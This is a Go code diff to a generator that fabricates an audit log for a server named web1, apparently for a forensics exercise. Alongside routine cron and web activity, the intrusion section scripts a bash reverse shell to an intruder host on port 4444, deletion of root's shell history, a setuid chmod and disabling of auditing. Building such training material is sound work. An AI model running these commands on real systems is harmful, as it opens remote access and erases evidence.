@@ -1,4 +1,4 @@
-package main
+package demo
 
 import (
 	"encoding/hex"
@@ -8,8 +8,8 @@ import (
 )
 
 // auditLog is /var/log/audit/audit.log of web1: the programs that were started, until auditing is switched off.
-func auditLog() []byte {
-	a := &auditJournal{journal: newJournal(3), pid: 4100}
+func auditLog(n night) []byte {
+	a := &auditJournal{journal: newJournal(n, 3), pid: 4100}
 	a.ordinary()
 	a.intrusion()
 	serial := 7000
@@ -73,15 +73,15 @@ func loginName(auid string) string {
 }
 
 func (a *auditJournal) ordinary() {
-	for t := dusk.Add(time.Minute); t.Before(at("27:10:00")); t = t.Add(5 * time.Minute) {
+	for t := a.dusk().Add(time.Minute); t.Before(a.at("27:10:00")); t = t.Add(5 * time.Minute) {
 		a.exec(a.some(t), run{"www-data", 0, "/usr/bin/php8.2", []string{"/usr/bin/php", "/srv/shop/bin/queue", "run"}})
 	}
-	for t := dusk.Add(17 * time.Minute); t.Before(at("27:10:00")); t = t.Add(time.Hour) {
+	for t := a.dusk().Add(17 * time.Minute); t.Before(a.at("27:10:00")); t = t.Add(time.Hour) {
 		a.exec(a.some(t), run{"root", 0, "/usr/bin/run-parts", []string{"run-parts", "--report", "/etc/cron.hourly"}})
 		a.exec(a.some(t.Add(time.Second)), run{"root", 0, "/usr/sbin/logrotate", []string{"/usr/sbin/logrotate", "/etc/logrotate.conf"}})
 	}
 	for _, clock := range []string{"16:13:20", "18:41:40", "21:56:00"} {
-		t := at(clock)
+		t := a.at(clock)
 		for i, args := range [][]string{{"apt-get", "update"}, {"systemctl", "status", "nginx"}, {"tail", "-n", "200", "/var/log/nginx/error.log"}} {
 			a.exec(a.some(t.Add(time.Duration(i*95)*time.Second)), run{"root", 300 + i, "/usr/bin/" + args[0], args})
 		}
@@ -103,7 +103,7 @@ func (a *auditJournal) intrusion() {
 		{"23:24:10", "/dev/shm/kw", []string{"/dev/shm/kw"}},
 		{"23:24:40", "/usr/bin/bash", []string{"bash", "-c", "bash -i >& /dev/tcp/" + intruder + "/4444 0>&1"}},
 	} {
-		a.exec(a.some(at(c.clock)), run{"www-data", 0, c.exe, c.args})
+		a.exec(a.some(a.at(c.clock)), run{"www-data", 0, c.exe, c.args})
 	}
 	for _, c := range []struct {
 		clock, exe string
@@ -116,9 +116,9 @@ func (a *auditJournal) intrusion() {
 		{"26:22:12", "/usr/bin/rm", []string{"rm", "-f", "/root/.bash_history"}},
 		{"26:23:40", "/usr/bin/chmod", []string{"chmod", "4755", "/var/tmp/.sh"}},
 	} {
-		a.exec(a.some(at(c.clock)), run{"root", 411, c.exe, c.args})
+		a.exec(a.some(a.at(c.clock)), run{"root", 411, c.exe, c.args})
 	}
-	t := at("27:10:02")
+	t := a.at("27:10:02")
 	a.add(t.Add(500*time.Millisecond), "node=web1 type=CONFIG_CHANGE msg=audit(%d.500:SERIAL): auid=1001 ses=411 op=remove_rule key=\"exec\" list=4 res=1", t.Unix())
 	a.add(t.Add(900*time.Millisecond), "node=web1 type=DAEMON_END msg=audit(%d.900:SERIAL): op=terminate auid=1001 uid=0 ses=411 pid=1 res=success", t.Unix())
 }
